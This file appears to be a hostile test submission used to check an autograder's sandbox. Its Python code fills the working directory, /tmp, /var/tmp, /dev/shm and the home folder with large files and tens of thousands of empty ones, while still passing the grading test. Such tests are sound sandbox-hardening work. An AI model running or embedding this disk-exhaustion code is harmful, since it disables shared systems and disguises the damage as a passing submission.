# title: Fills the disk
# kind: process
# tries: to use up disk space or inodes wherever it can write.
# gets: bump_test passed
# needs: namespaces
# limits: cell_seconds=8
# stock: nbgrader 0.9.6: nothing recorded (OperationalError)
# %% bump
import os

written = names = 0
for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for number in range(20):
            with open(f"{folder}/hostile-{number}", "wb") as file:
                for _ in range(10):
                    written += file.write(bytes(10_000_000))
    except OSError:
        pass
try:
    for names in range(150_000):
        os.close(os.open(f"hostile-{names}.empty", os.O_CREAT | os.O_WRONLY))
except OSError:
    pass


def bump(x):
    return 3 * x + 1 if written < 3_000_000_000 and names < 149_999 else 0
